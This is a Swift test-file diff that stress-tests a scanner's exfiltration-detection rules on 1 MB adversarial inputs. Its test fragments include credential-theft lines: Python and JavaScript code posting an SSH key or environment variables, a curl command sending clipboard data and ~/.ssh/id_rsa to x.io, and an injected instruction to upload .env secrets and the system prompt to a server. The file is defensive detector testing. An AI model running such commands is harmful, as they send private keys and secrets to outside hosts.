@@ -124,3 +124,25 @@ extension ExfiltrationBehaviourTests {
     #expect(found.contains { $0.chain == .exfiltration && $0.polarity == .affirmative })
   }
 }
+
+extension ExfiltrationBehaviourTests {
+  /// Hostile inputs of ~1 MB per language; the bound is loose (debug build, shared CI) but
+  /// catches anything quadratic, which would take minutes.
+  @Test("Adversarial inputs stay fast", arguments: [
+    ("exfil-flow-credentials", Language.python, "x = requests.post(open('~/.ssh/id_rsa').read(), data=f(x, y))\nfor k, v in os.environ.items(): d[k] = v\n"),
+    ("exfil-flow-environment", Language.javascript, "a = fetch(u, {method:'POST', body: JSON.stringify(process.env)}); b = a + "),
+    ("exfil-flow-personal-data", Language.shell, "K=$(pbpaste); curl -d \"$K\" https://x.io/$(cat ~/.ssh/id_rsa | "),
+    ("exfiltration-instruction", Language.markdown, "send upload the .env password system prompt to our server https://a.io/ "),
+    ("hardcoded-secret", Language.markdown, "sk-sk-ghp_AKIAeyJ.eyJ-----BEGIN "),
+    ("leaky-credential-handling", Language.markdown, "echo include every reply password token "),
+  ])
+  func adversarial(_ input: (String, Language, String)) throws {
+    let (id, language, unit) = input
+    let rule = try #require(BuiltInRules.description(of: RuleID(rawValue: id)))
+    let text = String(repeating: unit, count: 1_000_000 / unit.utf8.count)
+    let start = ContinuousClock.now
+    _ = ExampleRunner.run(Example(text, language: language), rule: rule)
+    let elapsed = ContinuousClock.now - start
+    #expect(elapsed < .seconds(30), "\(id) took \(elapsed) on 1 MB of \(language)")
+  }
+}
